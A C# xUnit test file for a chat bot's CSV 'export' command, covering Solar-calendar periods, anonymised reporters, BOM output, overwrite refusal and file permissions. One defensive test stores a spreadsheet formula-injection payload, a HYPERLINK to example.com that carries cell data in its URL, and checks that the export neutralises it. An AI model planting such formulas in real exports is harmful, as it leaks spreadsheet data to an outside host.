using System.Runtime.Versioning;
using System.Text;
using Assembly.Bot.Cli;
using Assembly.Bot.Tests.Statistics;
using Assembly.Bot.Tests.Support;
using Assembly.Conversations.Messages;
using Assembly.Conversations.Statistics;
using Assembly.Conversations.Text;
using Assembly.Storage.Entities;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Time.Testing;

namespace Assembly.Bot.Tests.Cli;

/// <summary><c>export [PERIOD] [--out FILE]</c>: the chat's CSV export, from the command line.</summary>
public sealed class ExportCommandTests : IAsyncLifetime
{
    private static readonly TimeZoneInfo Tehran = TimeZoneInfo.FindSystemTimeZoneById("Asia/Tehran");
    private readonly FakeTimeProvider _clock = new(new DateTimeOffset(2026, 11, 28, 12, 0, 0, TimeSpan.Zero)); // 7 Azar 1405
    private readonly TestDatabase _database = new();
    private readonly TestConsole _console = new();

    private string Folder => Path.GetDirectoryName(_database.File)!;

    public async Task InitializeAsync()
    {
        await CliTestSupport.MigrateAsync(_database);
        await using var db = _database.Open();
        await KnownReports.SeedAsync(db, Tehran, _clock.GetUtcNow().UtcDateTime);
    }

    public Task DisposeAsync()
    {
        _database.Dispose();
        return Task.CompletedTask;
    }

    private Task<int> ExportAsync(params string[] args) =>
        ExportCommand.RunAsync(args, _console.Console, CliTestSupport.Settings(_database), services => services.AddSingleton<TimeProvider>(_clock));

    [Fact]
    public async Task A_month_is_exported_to_a_file_as_the_chat_exports_it_with_a_bom_and_anonymous_reporters_hidden()
    {
        var file = Path.Combine(Folder, "aban.csv");

        var exit = await ExportAsync("۱۴۰۵/۰۸", "--out", file);

        Assert.True(exit == ExitCodes.Ok, _console.Error.ToString());
        var bytes = await File.ReadAllBytesAsync(file);
        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes[..3]);
        var rows = CliTestSupport.Rows(bytes);
        Assert.Equal(Texts.ExportColumns, rows[0]);
        Assert.Equal(["RJ-1001", "RJ-1002", "MD-1001", "BH-1001", "BH-1002", "RJ-1003", "MD-1002"], rows.Skip(1).Select(r => r[0]));

        var name = Array.IndexOf(Texts.ExportColumns, "گزارش‌دهنده");
        foreach (var row in rows.Skip(1))
        {
            var anonymous = row[0] is "RJ-1002" or "BH-1001";
            Assert.Equal(anonymous ? "ناشناس" : "رضا کاشانی", row[name]);
            Assert.Equal(anonymous ? "ناشناس" : "۰۹۱۳۱۱۱۲۲۳۳", row[name + 1]); // local form: no formula, and the zero kept
        }

        // The very bytes the chat's /export sends for that month.
        using var chat = new ChatHarness(("Access:Admins:0", "telegram:1"));
        await using (var db = chat.Db()) await KnownReports.SeedAsync(db, chat.Context.Zone, chat.Now);
        chat.As = ("telegram", 1, "مدیر");
        var uploads = (await chat.Say("/export 1405/08")).Messages.OfType<UploadMessage>().ToList();
        Assert.Equal(bytes, uploads.Single(u => u.FileName.EndsWith(".csv", StringComparison.Ordinal)).Content);

        Assert.Equal(
            $"Exported the reports of ۱۴۰۵/۰۸ (آبان ۱۴۰۵) to {file} (CSV, UTF-8 with a byte-order mark, {CliCommands.Size(bytes.Length)}): 7 reports, 2 of them with the reporter shown as «ناشناس» (anonymous).",
            _console.Out.ToString().Trim());
        Assert.Equal("", _console.Error.ToString());
        Assert.Empty(_console.StandardOutputBytes);
    }

    [Fact]
    public async Task Without_a_period_every_report_goes_to_standard_output_even_of_a_secretariat_no_longer_configured()
    {
        await using (var db = _database.Open())
        {
            var created = _clock.GetUtcNow().UtcDateTime.AddYears(-2);
            db.Reports.Add(new Report { Code = "OL-1001", MemberId = 1, Secretariat = "old-desk", County = "کاشان", Description = "مسئله قدیمی", CreatedAt = created, UpdatedAt = created });
            await db.SaveChangesAsync();
        }

        var exit = await ExportAsync();

        Assert.True(exit == ExitCodes.Ok, _console.Error.ToString());
        var bytes = _console.StandardOutputBytes;
        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes[..3]);
        var rows = CliTestSupport.Rows(bytes);
        Assert.Equal(["OL-1001", "RJ-0901", "MD-0901", "RJ-1001", "RJ-1002", "MD-1001", "BH-1001", "BH-1002", "RJ-1003", "MD-1002", "RJ-1101"],
            rows.Skip(1).Select(r => r[0]));
        Assert.Equal("old-desk", rows[1][2]);
        Assert.Equal("Exported every report as CSV: 11 reports, 2 of them with the reporter shown as «ناشناس» (anonymous).", _console.Error.ToString().Trim());
        Assert.Equal("", _console.Out.ToString()); // standard output is the CSV alone
    }

    [Fact]
    public async Task A_period_without_reports_writes_nothing_says_so_and_exits_with_one()
    {
        var file = Path.Combine(Folder, "farvardin.csv");

        var exit = await ExportAsync("1405/01", "--out=" + file);

        Assert.Equal(ExitCodes.Failed, exit);
        Assert.Equal("No reports were received in 1405/01 (فروردین ۱۴۰۵); nothing was exported.", _console.Error.ToString().Trim());
        Assert.False(File.Exists(file));
        Assert.Empty(_console.StandardOutputBytes);
    }

    [Theory]
    [InlineData("1405/13", "ماه ۱۳")]
    [InlineData("1406", "هنوز نرسیده")]
    [InlineData("آبان", "")]
    public async Task A_period_that_cannot_be_read_is_a_usage_error_that_says_what_to_write(string period, string reason)
    {
        var exit = await ExportAsync(period);

        Assert.Equal(ExitCodes.Usage, exit);
        var error = _console.Error.ToString().Trim();
        Assert.StartsWith($"Cannot read the period '{period}' (write a Solar month like 1404/08, a year like 1404, or nothing for every report): ", error);
        Assert.Contains(reason, error);
        Assert.DoesNotContain('\n', error);
        Assert.Empty(_console.StandardOutputBytes);
    }

    [Fact]
    public async Task An_export_never_overwrites_a_file()
    {
        var file = Path.Combine(Folder, "kept.csv");
        await File.WriteAllTextAsync(file, "kept");

        var exit = await ExportAsync("1405/08", "--out", file);

        Assert.Equal(ExitCodes.Failed, exit);
        Assert.Equal($"{file} already exists; an export never overwrites a file, so give a new name.", _console.Error.ToString().Trim());
        Assert.Equal("kept", await File.ReadAllTextAsync(file));
    }

    [Fact]
    [UnsupportedOSPlatform("windows")]
    public async Task The_file_is_readable_by_its_owner_only_and_a_description_that_begins_like_a_formula_is_defused()
    {
        const string formula = "=HYPERLINK(\"http://example.com/?q=\"&A1,\"جزئیات\")";
        await using (var db = _database.Open())
        {
            var report = await db.Reports.SingleAsync(r => r.Code == "MD-1002");
            report.Description = formula;
            report.Place = "@فرمانداری\u0001";
            await db.SaveChangesAsync();
        }

        var file = Path.Combine(Folder, "private.csv");

        var exit = await ExportAsync("1405/08", "--out", file);

        Assert.True(exit == ExitCodes.Ok, _console.Error.ToString());
        Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, File.GetUnixFileMode(file));
        var line = Encoding.UTF8.GetString(await File.ReadAllBytesAsync(file)).Split("\r\n").Single(l => l.StartsWith("MD-1002,", StringComparison.Ordinal));
        Assert.Contains(",'@فرمانداری,\"'=HYPERLINK(\"\"http://example.com/?q=\"\"&A1,\"\"جزئیات\"\")\",", line);
    }

    [Fact]
    public async Task A_range_of_months_in_several_words_is_one_period()
    {
        var file = Path.Combine(Folder, "range.csv");

        var exit = await ExportAsync("1405/07", "تا", "1405/08", "--out", file);

        Assert.True(exit == ExitCodes.Ok, _console.Error.ToString());
        Assert.Equal(9, CliTestSupport.Rows(await File.ReadAllBytesAsync(file)).Count - 1);
    }
}
